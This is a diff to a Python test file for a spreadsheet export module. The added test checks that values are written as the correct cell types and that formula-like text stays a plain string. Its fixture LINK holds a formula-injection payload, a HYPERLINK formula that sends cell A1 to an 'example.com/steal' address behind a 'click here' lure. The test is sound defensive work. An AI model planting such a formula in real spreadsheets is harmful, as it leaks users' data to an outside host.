@@ -9,7 +9,14 @@ from decimal import Decimal as D
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from spreadsheets.writing import csv_bytes, csv_cell, csv_text, put_text, workbook_bytes
+from spreadsheets.writing import (
+    csv_bytes,
+    csv_cell,
+    csv_text,
+    put_text,
+    put_value,
+    workbook_bytes,
+)
 
 LINK = '=HYPERLINK("http://example.com/steal?d="&A1,"点此查看")'
 
@@ -58,3 +65,20 @@ def test_text_in_an_xlsx_is_a_string_cell_never_a_formula(text):
     sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active
     assert (sheet["A1"].value, sheet["A1"].data_type) == (text, "s")
     assert (sheet["B1"].value, sheet["B1"].data_type) == (-5, "n")
+
+
+def test_every_exported_value_goes_through_one_cell_writer():
+    book = Workbook()
+    sheet = book.active
+    for column, value in enumerate(
+        ["-5", D("-5"), D("2600.50"), -3, date(2027, 2, 6), LINK, None], start=1
+    ):
+        put_value(sheet, 1, column, value, "yyyy-mm-dd" if isinstance(value, date) else None)
+    read = load_workbook(io.BytesIO(workbook_bytes(book))).active
+    cells = [(cell.value, cell.data_type) for cell in read[1]]
+    assert cells[:4] == [("-5", "s"), (-5, "n"), (2600.5, "n"), (-3, "n")]
+    assert cells[4][0].date() == date(2027, 2, 6) and cells[4][1] == "d"
+    assert cells[5] == (LINK, "s")
+    assert len(cells) == 6  # nothing written for None
+    with pytest.raises(TypeError):
+        put_value(sheet, 2, 1, True)
